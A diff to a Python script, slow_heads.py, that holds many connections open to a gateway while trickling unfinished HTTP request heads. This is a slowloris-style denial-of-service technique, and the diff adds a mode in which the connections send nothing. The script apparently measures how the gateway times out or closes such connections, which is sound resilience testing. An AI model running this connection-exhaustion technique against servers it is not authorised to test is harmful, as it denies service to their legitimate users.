@@ -5,6 +5,7 @@ on each every INTERVAL seconds, never ending the head, for SECONDS seconds. A co
 the gateway ends is opened again, so the attack keeps its size. Prints one JSON line:
 how many connections were opened, how many the gateway answered with 408, reset or
 closed, and how many were still trickling at the end.
+INTERVAL 0: the connections send nothing at all (they only hold what accepting them took).
 usage: slow_heads.py SOURCE ADDRESS PORT CONNECTIONS INTERVAL SECONDS"""
 import errno
 import json
@@ -48,7 +49,7 @@ def end(key, what):
 deadline = time.monotonic() + SECONDS
 for _ in range(CONNECTIONS):
     open_one()
-next_trickle = time.monotonic() + INTERVAL
+next_trickle = time.monotonic() + INTERVAL if INTERVAL > 0 else float("inf")
 while time.monotonic() < deadline:
     for key, events in sel.select(timeout=0.05):
         state = key.data
@@ -61,7 +62,8 @@ while time.monotonic() < deadline:
                 open_one()
                 continue
             state[0] = True
-            key.fileobj.send(HEAD_START)
+            if INTERVAL > 0:
+                key.fileobj.send(HEAD_START)
             sel.modify(key.fileobj, selectors.EVENT_READ, state)
             continue
         if events & selectors.EVENT_READ:
